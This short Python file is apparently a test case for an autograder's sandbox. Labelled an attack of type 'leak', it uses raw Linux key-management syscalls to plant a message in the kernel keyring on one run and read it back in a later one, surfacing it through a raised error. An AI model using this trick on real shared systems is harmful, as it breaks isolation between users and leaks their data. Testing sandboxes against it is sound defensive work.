# {"attack": "Leaves a key in the kernel's keyring for the next student.", "breach": "leak", "turns": 2}

import ctypes

library = ctypes.CDLL(None)


def double(x):
    if TARGETS["turn"] == 1:
        library.syscall(248, b"user", TARGETS["mark"].encode(), TARGETS["message"].encode(), len(TARGETS["message"]), -4)
    else:
        key = library.syscall(249, b"user", TARGETS["mark"].encode(), None, -4)
        buffer = ctypes.create_string_buffer(100)
        library.syscall(250, 11, key, buffer, 100)
        raise ValueError(buffer.value.decode())
